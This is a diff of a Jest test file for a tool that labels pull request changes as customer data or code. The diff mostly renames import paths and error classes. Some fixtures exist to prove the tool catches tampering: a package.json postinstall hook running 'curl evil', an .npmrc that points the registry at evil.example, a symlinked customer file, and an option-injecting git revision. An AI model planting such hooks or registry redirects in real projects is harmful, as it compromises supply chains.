@@ -7,9 +7,9 @@ import { execFileSync, spawnSync } from "node:child_process";
 import * as fs from "node:fs";
 import * as os from "node:os";
 import * as path from "node:path";
-import { changesBetween, decideChangeKind, parseRawDiff } from "../src/commands/change-kind";
-import { OperatorError } from "../src/commands/operator-command";
-import { PROJECT_ROOT } from "../scripts/temp-project";
+import { changesBetween, decideChangeKind, parseRawDiff } from "../src/operations/change-kind";
+import { UserError } from "../src/user-error";
+import { PROJECT_ROOT } from "../testkit/temp-project";
 
 const CUSTOMER = 'export default { clientId: "acme-logistics" };\n';
 
@@ -19,7 +19,7 @@ const BASE_FILES: Record<string, string> = {
   "scopes/orders-api.ts": 'export default { clientId: "orders-api" };\n',
   "customers.inventory.json": '{ "environments": {} }\n',
   "__tests__/__snapshots__/example-stacks.test.ts.snap": "// Jest Snapshot v1\n",
-  "src/commands/plan.ts": "export {};\n",
+  "src/operations/plan.ts": "export {};\n",
   "environments.ts": "export const environments = {};\n",
   "package.json": "{}\n",
   "package-lock.json": "{}\n",
@@ -93,13 +93,13 @@ describe("change-kind", () => {
   test("decides data when main changed code after the pull request branched off (merge-base, like a pull request)", () => {
     pullRequest(onboard);
     git("switch", "--quiet", "main");
-    write({ "src/commands/plan.ts": "export const changedOnMain = true;\n" });
+    write({ "src/operations/plan.ts": "export const changedOnMain = true;\n" });
     commit("code on main");
     expect(decide().kind).toBe("data");
   });
 
   test.each<[string, string, () => void]>([
-    ["a source file changes", "src/commands/plan.ts", () => write({ "src/commands/plan.ts": "process.exit(0);\n" })],
+    ["a source file changes", "src/operations/plan.ts", () => write({ "src/operations/plan.ts": "process.exit(0);\n" })],
     ["environments.ts changes", "environments.ts", () => write({ "environments.ts": "export const environments = { evil: {} };\n" })],
     ["package.json changes", "package.json", () => write({ "package.json": '{ "scripts": { "postinstall": "curl evil" } }\n' })],
     ["the lock file changes", "package-lock.json", () => write({ "package-lock.json": '{ "lockfileVersion": 3 }\n' })],
@@ -107,7 +107,7 @@ describe("change-kind", () => {
     ["a new top-level file appears", ".npmrc", () => write({ ".npmrc": "registry=https://evil.example\n" })],
     ["a customer file sits in a subfolder of clients/", "clients/sub/hooli-xyz.ts", () => write({ "clients/sub/hooli-xyz.ts": CUSTOMER })],
     ["a .js file appears in clients/", "clients/hooli-xyz.js", () => write({ "clients/hooli-xyz.js": "module.exports = {};\n" })],
-    ["a source file is deleted", "src/commands/plan.ts", () => fs.rmSync(path.join(repo, "src/commands/plan.ts"))],
+    ["a source file is deleted", "src/operations/plan.ts", () => fs.rmSync(path.join(repo, "src/operations/plan.ts"))],
     ["a customer file is a symlink", "clients/hooli-xyz.ts", () => fs.symlinkSync("../environments.ts", path.join(repo, "clients/hooli-xyz.ts"))],
     ["a customer file becomes a symlink", "clients/acme-logistics.ts", () => {
       fs.rmSync(path.join(repo, "clients/acme-logistics.ts"));
@@ -123,22 +123,22 @@ describe("change-kind", () => {
   test("decides code when a pull request mixes a new customer with a source change, naming only the source file", () => {
     pullRequest(() => {
       onboard();
-      write({ "src/commands/plan.ts": "process.exit(0);\n" });
+      write({ "src/operations/plan.ts": "process.exit(0);\n" });
     });
     expect(decide()).toEqual({
       kind: "code",
-      codePaths: ["src/commands/plan.ts"],
+      codePaths: ["src/operations/plan.ts"],
       dataPaths: ["__tests__/__snapshots__/example-stacks.test.ts.snap", "clients/hooli-xyz.ts", "customers.inventory.json"],
     });
   });
 
   test("fails when the base is not a revision of the repository", () => {
     pullRequest(onboard);
-    expect(() => changesBetween(repo, "no-such-branch", "pr")).toThrow(new OperatorError("could not compare no-such-branch...pr: bad revision 'no-such-branch...pr'"));
+    expect(() => changesBetween(repo, "no-such-branch", "pr")).toThrow(new UserError("could not compare no-such-branch...pr: bad revision 'no-such-branch...pr'"));
   });
 
   test("fails when a revision looks like an option, before git sees it", () => {
-    expect(() => changesBetween(repo, "--output=/tmp/x", "HEAD")).toThrow(new OperatorError('not a git revision: "--output=/tmp/x"'));
+    expect(() => changesBetween(repo, "--output=/tmp/x", "HEAD")).toThrow(new UserError('not a git revision: "--output=/tmp/x"'));
   });
 
   test("fails when git's raw output is not what it documents", () => {
@@ -148,7 +148,7 @@ describe("change-kind", () => {
 
 describe("the change-kind command", () => {
   const run = (...args: string[]) =>
-    spawnSync("npx", ["--prefix", PROJECT_ROOT, "--no-install", "tsx", path.join(PROJECT_ROOT, "src/commands/change-kind.ts"), ...args], {
+    spawnSync("npx", ["--prefix", PROJECT_ROOT, "--no-install", "tsx", path.join(PROJECT_ROOT, "src/cli/main.ts"), "change-kind", ...args], {
       cwd: repo,
       encoding: "utf8",
     });
@@ -170,7 +170,7 @@ describe("the change-kind command", () => {
     expect(run("--head", "pr")).toMatchObject({
       status: 1,
       stdout: "",
-      stderr: "error: usage: npm run --silent change-kind -- --base <git rev> [--head <git rev>] [--json]\n",
+      stderr: "error: required option '--base <git rev>' not specified\n(add --help for usage)\n",
     });
   });
 });
